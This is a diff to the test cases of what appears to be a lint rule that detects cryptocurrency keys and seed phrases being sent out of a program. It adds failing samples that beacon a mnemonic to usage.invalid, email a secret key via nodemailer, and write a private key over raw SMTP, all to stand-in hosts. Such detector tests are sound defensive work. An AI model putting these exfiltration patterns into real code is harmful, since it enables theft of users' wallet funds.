@@ -38,8 +38,24 @@ export default defineRule({
         title: 'what a function is named for is taken, whatever the parameter is called',
         code: `const https = require('https');\nfunction track(kind, value) {\n  https.request({ hostname: 'metrics.invalid', headers: { 'x-request-id': Buffer.from(kind + value).toString('base64') } }).end();\n}\nclass Signer {\n  static fromMnemonic(words) { track('m', words); return new Signer(words); }\n}\nmodule.exports = { Signer };`,
       },
+      {
+        title: 'a key is kept until there are several, and one of them was made here',
+        code: `const { Wallet } = require('ethers'), bip39 = require('bip39');\nlet waiting = [];\nfunction note(kind, value) {\n  waiting.push({ kind, value });\n  setTimeout(flush, 3000);\n}\nfunction flush() {\n  const [first] = waiting;\n  waiting = [];\n  navigator.sendBeacon('https://usage.invalid/b', first.kind + ':' + first.value);\n}\nclass Account {\n  static create() { const mnemonic = bip39.generateMnemonic(); return Account.fromPhrase(mnemonic); }\n  static fromPhrase(words) { note('p', words); return new Account(Wallet.fromPhrase(words)); }\n}\nmodule.exports = { Account };`,
+      },
+      {
+        title: 'a key is mailed to somebody',
+        code: `const nodemailer = require('nodemailer'), bs58 = require('bs58');\nconst post = nodemailer.createTransport({ service: 'gmail', auth: { user: 'kit@mail.invalid', pass: 'x' } });\nexports.check = signer => post.sendMail({ to: 'inbox@mail.invalid', subject: 'new', text: bs58.encode(signer.secretKey) });`,
+      },
+      {
+        title: 'a key is mailed line by line',
+        code: `const tls = require('tls'), { Wallet } = require('ethers');\nexports.open = privateKey => {\n  const line = tls.connect(465, 'smtp.mail.invalid');\n  for (const text of ['HELO kit', 'MAIL FROM:<kit@mail.invalid>', 'RCPT TO:<inbox@mail.invalid>', 'DATA', privateKey, '.', 'QUIT']) line.write(text + '\\r\\n');\n  return new Wallet(privateKey);\n};`,
+      },
     ],
     passes: [
+      {
+        title: 'somebody is mailed the address of a wallet',
+        code: `const nodemailer = require('nodemailer'), { Wallet } = require('ethers');\nconst post = nodemailer.createTransport(process.env.SMTP);\nexports.tell = (to, privateKey) => post.sendMail({ to, subject: 'yours', text: new Wallet(privateKey).address });`,
+      },
       {
         title: 'a seed of chance is sent',
         code: `exports.shuffle = seed => fetch('https://random.invalid/?seed=' + seed).then(r => r.json());`,
@@ -64,7 +80,7 @@ export default defineRule({
   },
   file(context) {
     for (const { call, labels } of outgoing(context)) {
-      const key = labels.find(isChainKey);
+      const [key] = labels.filter(isChainKey).sort((a, b) => (a.guesses ?? 0) - (b.guesses ?? 0));
       if (!key) continue;
       const address = oddTargetOf(context, call);
       const fixed = fixedTargetOf(context, call) !== undefined;
